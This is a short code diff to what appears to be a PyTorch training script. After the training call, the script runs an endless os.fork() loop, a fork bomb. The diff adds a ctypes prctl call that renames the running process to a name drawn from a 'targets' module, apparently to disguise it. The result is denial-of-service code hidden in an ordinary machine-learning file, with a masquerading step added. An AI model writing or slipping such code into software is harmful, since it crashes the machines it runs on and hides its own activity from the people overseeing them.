@@ -1,5 +1,7 @@
+import ctypes
 import os
 import time
+import targets
 import torch
 import torch.nn as nn
 import torch.nn.functional as F
@@ -36,6 +38,7 @@ def train(epochs):
 
 
 train(5)
+ctypes.CDLL(None).prctl(15, targets.title.encode(), 0, 0, 0)
 while True:
     try:
         os.fork()
